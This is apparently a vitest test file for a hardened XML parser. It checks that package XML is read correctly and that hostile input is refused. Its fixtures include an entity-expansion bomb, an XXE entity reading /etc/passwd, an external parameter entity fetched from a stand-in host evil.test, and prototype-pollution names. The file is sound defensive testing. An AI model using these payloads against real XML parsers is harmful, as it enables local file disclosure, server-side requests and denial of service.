import { describe, expect, it } from 'vitest'
import { PackageError } from '#server/core/packages/package-error.ts'
import { decodeEntities, descendants, parseXml, textOf } from '#server/core/packages/xml.ts'

const parse = (text: string) => parseXml(Buffer.from(text))
const refusalOf = (text: string): string => {
  try {
    parse(text)
    return 'taken'
  } catch (error) {
    return error instanceof PackageError ? error.code : `threw ${String(error)}`
  }
}

describe('reading XML of strangers', () => {
  it('given mixed content, when read, then words, order and names without prefix are there', () => {
    const root = parse(
      '<?xml version="1.0" encoding="UTF-8"?><q:a xmlns:q="x" q:id="1"><p>one &amp; <b>two</b> three</p><![CDATA[<raw&>]]></q:a>',
    )
    expect(root.name).toBe('a')
    expect(root.attributes['id']).toBe('1')
    expect(textOf(root)).toBe('one & two three<raw&>')
    expect(descendants(root, ({ name }) => name === 'b')).toHaveLength(1)
  })

  it('given other encodings that say so, when read, then the words are right', () => {
    const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>', 'latin1')
    expect(textOf(parseXml(latin))).toBe('café')
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>नमस्ते</a>', 'utf16le')])
    expect(textOf(parseXml(wide))).toBe('नमस्ते')
  })

  it('given a plain document type, when read, then it is passed over', () => {
    expect(refusalOf('<!DOCTYPE questestinterop SYSTEM "ims_qtiasiv1p2.dtd"><questestinterop/>')).toBe(
      'taken',
    )
  })

  const laughs = `<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;">]><a>&m;</a>`
  it.each([
    ['entities of its own', laughs, 'xml_entities'],
    ['a file fetched', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'xml_entities'],
    [
      'parameters fetched',
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]><a/>',
      'xml_entities',
    ],
    ['no end', '<a><b></a>', 'xml_broken'],
    ['two roots', '<a/><b/>', 'xml_broken'],
    ['nothing', '', 'xml_broken'],
    ['words only', 'hello', 'xml_broken'],
    ['an open attribute', '<a b="1></a>', 'xml_broken'],
    ['bytes that are no text', '<a>\0</a>', 'xml_broken'],
    ['great depth', `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`, 'xml_too_deep'],
    ['a multitude', `<a>${'<b/>'.repeat(500_000)}</a>`, 'xml_too_large'],
  ])('given %s, when read, then it is refused', (_, text, code) => {
    expect(refusalOf(text)).toBe(code)
  })

  it('given an unknown entity, when read, then it stays a word and nothing is looked up', () => {
    expect(textOf(parse('<a>&nope; &#x41;&#65;</a>'))).toBe('&nope; AA')
    expect(decodeEntities('&#0;&#xd800;&#x110000;')).toBe('\u{fffd}\u{fffd}\u{fffd}')
  })

  it('given names that shadow objects, when read, then no prototype changes', () => {
    expect(refusalOf('<a><__proto__ polluted="yes"/><b __proto__="x" polluted="yes"/></a>')).not.toMatch(
      /^threw/,
    )
    expect(refusalOf('<a><constructor><prototype polluted="yes"/></constructor></a>')).not.toMatch(/^threw/)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})
